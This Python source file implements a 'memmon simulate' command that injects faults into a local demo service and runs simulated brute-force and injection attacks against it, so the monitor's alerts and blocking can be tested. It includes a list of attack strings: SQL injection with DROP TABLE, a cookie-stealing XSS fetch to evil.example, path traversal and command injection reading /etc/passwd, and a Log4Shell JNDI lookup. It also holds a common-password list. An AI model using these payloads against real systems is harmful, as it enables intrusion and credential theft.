"""`memmon simulate`: make the running demo suffer something real."""

from __future__ import annotations

import itertools
import json
import random
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote

import click

from memmon import duration, outbound
from memmon.demo.faults import FAULTS
from memmon.errors import BadInput, NotFound, Permanent, Transient
from memmon.settings import load

LONGEST = 3600.0
TIMEOUT = 10.0

DEFAULTS = {"slow-database": "8m", "memory-leak": "5m", "errors": "2m", "cache-misses": "15m", "crash": "1m"}
"""Fault -> how long, where nobody says; long enough for the default rule about it to fire."""

ATTACKS = (
    "' OR '1'='1' --",
    "'; DROP TABLE memories_enhanced; --",
    "x' UNION SELECT name, sql FROM sqlite_master --",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
)
PASSWORDS = ("123456", "password", "letmein", "qwerty", "admin", "welcome", "dragon", "secret")


class DemoClient(NamedTuple):
    """Where the running demo is, and its token."""

    url: str
    token: str


class Attack(NamedTuple):
    """One attack: requests with a pause (s) between them, and a default length."""

    seconds_apart: float
    default: str
    requests: Callable[[], Iterator[tuple[str, str, object]]]
    about: str


def _guesses() -> Iterator[tuple[str, str, object]]:
    for index, password in enumerate(itertools.cycle(PASSWORDS)):
        yield "POST", "/login", {"user": "demo", "password": f"{password}{index}"}


def _injections() -> Iterator[tuple[str, str, object]]:
    for text in itertools.cycle(ATTACKS):
        yield "GET", f"/memories/search?q={quote(text)}", None


REAL_ATTACKS = {
    "brute-force": Attack(0.5, "2m", _guesses, "wrong logins"),
    "injection": Attack(1.0, "2m", _injections, "searches with attack strings"),
}


@click.command()
@click.argument("fault", metavar="WHAT", type=click.Choice([*FAULTS, *REAL_ATTACKS]))
@click.option("--for", "length", metavar="DURATION", help="How long, like 30s or 2m; by default long enough to alert.")
def simulate(fault: str, length: str | None) -> None:
    """Make the demo really slow, leaky, failing, forgetful or dead, or really attack it.

    Faults end by themselves, or when the demo restarts. Attacks come from a random address of
    203.0.113.0/24 and stop early when that is blocked.
    """
    default = DEFAULTS[fault] if fault in FAULTS else REAL_ATTACKS[fault].default
    seconds = duration.parse(length or default, "--for")
    if not 0 < seconds <= LONGEST:
        raise BadInput("--for", f"must be more than nothing and at most {duration.show(LONGEST)}")
    demo = _running(load().run_dir / "demo.json")
    if fault in FAULTS:
        _switch(demo, fault, seconds)
    else:
        _attack(demo, REAL_ATTACKS[fault], seconds)


def _running(path: Path) -> DemoClient:
    """Return the demo that `path` tells of; NotFound when none runs."""
    try:
        announcement = json.loads(path.read_text(encoding="utf-8"))
        return DemoClient(
            announcement["url"].rstrip("/"), Path(announcement["token_file"]).read_text(encoding="utf-8").strip()
        )
    except FileNotFoundError as error:
        raise NotFound(f"no demo runs here: {error.filename} is missing; start one with `memmon up --demo`") from None
    except (OSError, ValueError, KeyError, TypeError, AttributeError) as error:
        raise Permanent(f"{path} does not tell where the demo is: {type(error).__name__}: {error}") from None


def _switch(demo: DemoClient, fault: str, seconds: float) -> None:
    answer = _send(demo, "POST", "/-/faults", {"fault": fault, "seconds": seconds}, f"Bearer {demo.token}")
    if answer.status != 200:
        raise Permanent(f"the demo answered {answer.status}: {answer.body[:300].decode(errors='replace')}")
    length = "" if fault == "crash" else f" for {duration.show(seconds)}"
    click.echo(f"{fault}: the demo at {demo.url} does it{length} from now on: {FAULTS[fault]}")


def _attack(demo: DemoClient, attack: Attack, seconds: float) -> None:
    address = f"203.0.113.{random.randint(1, 254)}"
    click.echo(f"{attack.about} from {address} to {demo.url}, for {duration.show(seconds)} or until that is blocked")
    deadline = time.monotonic() + seconds
    for sent, (method, path, body) in enumerate(attack.requests(), 1):
        status = _send(demo, method, path, body, client=address).status
        if status == 403:
            click.echo(f"stopped: request {sent} was answered 403, {address} is blocked")
            return
        if time.monotonic() + attack.seconds_apart >= deadline:
            click.echo(
                f"done: {sent} requests sent, the last was answered {status}; {address} was not blocked meanwhile"
            )
            return
        time.sleep(attack.seconds_apart)


def _send(
    demo: DemoClient, method: str, path: str, body: object = None, authorization: str = "", client: str = ""
) -> outbound.Response:
    optional = {"Authorization": authorization, "X-Forwarded-For": client}
    headers = {name: value for name, value in optional.items() if value}
    try:
        return outbound.request(
            method, demo.url + path, json=body, headers=headers, timeout=TIMEOUT, allow_private=True
        )
    except Transient as error:
        raise Transient(f"the demo does not answer: {error}") from error
